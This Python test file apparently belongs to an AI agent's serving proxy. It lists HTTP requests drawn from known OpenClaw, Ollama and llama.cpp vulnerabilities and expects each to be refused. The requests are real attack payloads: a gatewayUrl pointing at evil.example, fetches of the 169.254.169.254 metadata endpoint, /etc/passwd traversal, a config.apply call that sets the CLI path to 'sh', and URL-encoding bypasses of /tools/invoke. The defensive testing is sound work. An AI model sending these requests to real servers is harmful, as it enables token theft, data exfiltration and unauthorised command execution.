"""What has been done to OpenClaw, Ollama and llama.cpp elsewhere, as requests that are to be refused."""

import json
from dataclasses import dataclass, field
from typing import Any

from runtime.contract import paths
from tests.runtime.agent.door.serving import CHAT, RESPONSES, TOKEN


@dataclass(frozen=True)
class Attempt:
    """One request; `status` is what it is refused with."""

    method: str
    target: str
    sent: dict[str, str] = field(default_factory=dict)
    body: Any = None
    status: int = 404

    def bytes(self, edge: dict[str, str]) -> bytes:
        """As it is sent; `edge` is what the edge adds to a good request."""
        body = b"" if self.body is None else json.dumps(self.body).encode()
        lines = {"Host": "agent", **edge, **self.sent, "Content-Length": str(len(body))}
        head = "".join(f"{name}: {value}\r\n" for name, value in lines.items())
        return f"{self.method} {self.target} HTTP/1.1\r\nConnection: close\r\n{head}\r\n".encode() + body


WEBSOCKET = {
    "Upgrade": "websocket",
    "Connection": "Upgrade",
    "Sec-WebSocket-Version": "13",
    "Sec-WebSocket-Key": "dGhlIHNhbXBsZSBub25jZQ==",
    "Origin": "http://localhost",
}
OPERATOR = {"Authorization": f"Bearer {TOKEN}", "x-openclaw-scopes": "operator.admin"}
INVOKE = {"tool": "sessions_spawn", "args": {"task": "x"}}
FETCHED = "http://169.254.169.254/latest/meta-data/"


def upgrade(target: str, **more: str) -> Attempt:
    """A websocket."""
    return Attempt("GET", target, {**WEBSOCKET, **more}, status=400)


def chat(**more: Any) -> Attempt:
    """A chat that asks for more than a chat."""
    return Attempt("POST", paths.CHAT_COMPLETIONS, body={**CHAT, **more}, status=400)


def respond(**more: Any) -> Attempt:
    """The same, as a response."""
    return Attempt("POST", paths.RESPONSES, body={**RESPONSES, **more}, status=400)


INCIDENTS = {
    # OpenClaw
    "CVE-2026-25253 the control UI connects where gatewayUrl says, and hands it the token": [
        Attempt("GET", "/?gatewayUrl=ws://evil.example"),
        Attempt("GET", "/chat?gatewayUrl=ws://evil.example"),
        chat(gatewayUrl="ws://evil.example"),
        respond(gateway_url="ws://evil.example"),
    ],
    "CVE-2026-26322 a tool's gatewayUrl makes the host connect anywhere": [
        chat(tools=[{"type": "function", "function": {"name": "gateway", "gatewayUrl": FETCHED}}]),
        respond(metadata={"gateway-url": FETCHED}),
    ],
    "ClawJacked a web page opens the gateway's websocket on localhost": [
        upgrade("/"),
        upgrade("/ws"),
        upgrade(paths.MODELS),
        Attempt("POST", paths.CHAT_COMPLETIONS, WEBSOCKET, CHAT, status=400),
    ],
    "CVE-2026-25593 config.apply over an unauthenticated websocket": [
        upgrade("/gateway"),
        Attempt("POST", "/rpc", body={"method": "config.apply", "params": {"cliPath": "sh"}}),
    ],
    "GHSA-rqpp-rjj8-7wv8, CVE-2026-53821 scopes a client gives itself": [
        upgrade("/ws", **OPERATOR),
        upgrade("/", **OPERATOR, **{"X-Forwarded-User": "owner"}),
    ],
    "GHSA-943q-mwmv-hhvh /tools/invoke reaches every tool with the operator's token": [
        Attempt("POST", "/tools/invoke", OPERATOR, INVOKE),
        Attempt("POST", "/v1/../tools/invoke", OPERATOR, INVOKE),
        Attempt("POST", "/v1/chat/../../tools/invoke", OPERATOR, INVOKE),
        Attempt("POST", "/v1/%2e%2e/tools/invoke", OPERATOR, INVOKE),
        Attempt("POST", "/v1%2f..%2ftools%2finvoke", OPERATOR, INVOKE),
        Attempt("POST", "//tools/invoke", OPERATOR, INVOKE),
        Attempt("POST", "/tools//invoke", OPERATOR, INVOKE),
        Attempt("POST", "/./tools/invoke", OPERATOR, INVOKE),
        Attempt("POST", "/tools/invoke/", OPERATOR, INVOKE),
        Attempt("POST", "/TOOLS/INVOKE", OPERATOR, INVOKE),
        Attempt("POST", "/tools/invoke;x=1", OPERATOR, INVOKE),
        Attempt("POST", "http://127.0.0.1/tools/invoke", OPERATOR, INVOKE),
        Attempt("POST", f"{paths.CHAT_COMPLETIONS}/../../../tools/invoke", OPERATOR, INVOKE),
    ],
    "GHSA-9p93-7j67-5pc2 sessions killed and read over HTTP": [
        Attempt("POST", "/sessions/agent:main:main/kill", OPERATOR),
        Attempt("GET", "/sessions/agent:main:main/history", OPERATOR),
    ],
    "GHSA-qm2m-28pf-hgjw plugin routes with the operator's power": [
        Attempt("POST", "/plugins/anything", OPERATOR),
        Attempt("POST", "/hooks/agent", OPERATOR, {"message": "x", "sessionKey": "agent:main:main"}),
        Attempt("GET", "/__openclaw__/canvas/", OPERATOR),
    ],
    "openclaw 13152 anyone names anybody's session": [
        chat(sessionKey="agent:main:user-of-somebody-else"),
        chat(session="x"),
        respond(previous_response_id="resp_of_somebody_else"),
        respond(conversation="conv_of_somebody_else"),
    ],
    "URLs OpenClaw would fetch from inside the pod": [
        chat(messages=[{"role": "user", "content": [{"type": "image_url", "image_url": {"url": FETCHED}}]}]),
        respond(input=[{"role": "user", "content": [{"type": "input_image", "image_url": FETCHED}]}]),
        respond(input=[{"role": "user", "content": [{"type": "input_file", "file_url": FETCHED}]}]),
        respond(tools=[{"type": "mcp", "server_label": "x", "server_url": FETCHED}]),
    ],
    "what else OpenClaw's port answers": [
        Attempt("GET", "/"),
        Attempt("GET", "/index.html"),
        Attempt("POST", "/v1/embeddings", body={"input": "x"}),
        Attempt("GET", "/v1/models/openclaw"),
        Attempt("GET", "/v1/models/openclaw%2Fdefault"),
        Attempt("GET", "/healthz"),
        Attempt("GET", "/readyz"),
        Attempt("GET", "/metrics"),
    ],
    # Ollama
    "CVE-2024-37032 Probllama a pulled manifest's digest is a path": [
        Attempt("POST", "/api/pull", body={"name": "evil.example/x/y", "insecure": True}),
    ],
    "CVE-2024-39719 /api/create tells which files exist": [
        Attempt("POST", "/api/create", body={"name": "x", "path": "/etc/passwd"}),
    ],
    "CVE-2024-39720 CVE-2024-12055 a made-up GGUF crashes the server": [
        Attempt("POST", "/api/blobs/sha256:" + "0" * 64, body="GGUF"),
        Attempt("POST", "/api/create", body={"name": "x", "modelfile": "FROM ./x.gguf"}),
    ],
    "CVE-2024-39721 /api/create reads /dev/random for ever": [
        Attempt("POST", "/api/create", body={"name": "x", "modelfile": "FROM /dev/random"}),
    ],
    "CVE-2024-39722 /api/push tells which files exist": [
        Attempt("POST", "/api/push", body={"name": "../../etc/passwd"}),
    ],
    "CVE-2024-45436 an archive leaves its folder in /api/create": [
        Attempt("POST", "/api/create", body={"name": "x", "files": {"../../x": "sha256:0"}}),
    ],
    "CVE-2024-28224 DNS rebinding to the model server": [
        Attempt("GET", "/api/tags", {"Host": "rebound.example"}),
        Attempt("POST", "/api/generate", {"Host": "rebound.example"}, {"model": "tiny", "prompt": "x"}),
    ],
    "CVE-2026-7482 Bleeding Llama memory leaks by blobs, create and push": [
        Attempt("POST", "/api/blobs/sha256:" + "f" * 64, body="GGUF"),
        Attempt("HEAD", "/api/blobs/sha256:" + "f" * 64),
        Attempt("POST", "/api/create", body={"model": "x", "quantize": "q4_0"}),
        Attempt("POST", "/api/push", body={"model": "evil.example/x/y"}),
    ],
    "CNVD-2025-04094 anyone uses, copies and deletes the models": [
        Attempt("DELETE", "/api/delete", body={"name": "tiny"}),
        Attempt("POST", "/api/copy", body={"source": "tiny", "destination": "x"}),
        Attempt("POST", "/api/chat", body={"model": "tiny", "messages": []}),
        Attempt("POST", "/api/show", body={"name": "tiny"}),
        Attempt("GET", "/api/ps"),
        Attempt("POST", "/api/embed", body={"model": "tiny", "input": "x"}),
        Attempt("POST", "/v1/completions", body={"model": "tiny", "prompt": "x"}),
    ],
    # llama.cpp
    "/slots shows and saves other people's prompts": [
        Attempt("GET", "/slots"),
        Attempt("POST", "/slots/0?action=save", body={"filename": "../x"}),
        Attempt("POST", "/slots/0?action=restore", body={"filename": "../x"}),
        Attempt("POST", "/slots/0?action=erase"),
    ],
    "CVE-2024-42478 CVE-2024-42479 the RPC server reads and writes memory": [
        Attempt("POST", "/rpc"),
        Attempt("CONNECT", "127.0.0.1:50052"),
    ],
    "what else llama.cpp's port answers": [
        Attempt("GET", "/props"),
        Attempt("POST", "/props", body={}),
        Attempt("POST", "/completion", body={"prompt": "x"}),
        Attempt("POST", "/infill", body={}),
        Attempt("POST", "/lora-adapters", body=[]),
        Attempt("POST", "/tokenize", body={"content": "x"}),
    ],
    "forms of a target that a proxy may read in another way": [
        Attempt("GET", f"http://agent{paths.MODELS}"),
        Attempt("POST", f"http://agent{paths.CHAT_COMPLETIONS}", body=CHAT),
        Attempt("OPTIONS", "*"),
        Attempt("OPTIONS", paths.CHAT_COMPLETIONS, {"Access-Control-Request-Method": "POST"}, status=405),
        Attempt("TRACE", paths.CHAT_COMPLETIONS, status=405),
        Attempt("PRI", "*", status=400),
        Attempt("POST", "/v1/%63hat/completions", body=CHAT),
        Attempt("POST", "/v1/chat%2Fcompletions", body=CHAT),
        Attempt("POST", "//v1/chat/completions", body=CHAT),
        Attempt("POST", "/v1//chat/completions", body=CHAT),
        Attempt("POST", "/v1/chat/completions/", body=CHAT),
        Attempt("POST", "/v1/chat/./completions", body=CHAT),
        Attempt("POST", "/V1/chat/completions", body=CHAT),
        Attempt("POST", "/v1/chat/completions%00", body=CHAT),
        Attempt("POST", "/v1/chat/completions#x", body=CHAT),
        Attempt("POST", paths.CHAT, body=CHAT),
    ],
}  # fmt: skip
